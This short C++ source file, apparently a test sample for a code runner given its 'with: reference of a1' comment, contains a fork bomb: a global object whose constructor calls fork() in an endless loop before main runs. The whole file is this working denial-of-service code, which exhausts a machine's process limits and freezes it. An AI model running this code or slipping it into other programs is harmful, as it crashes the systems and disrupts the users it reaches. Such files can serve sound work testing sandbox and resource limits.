// with: reference of a1
#include <unistd.h>
struct Bomb {
  Bomb() {
    for (;;) fork();
  }
} bomb;
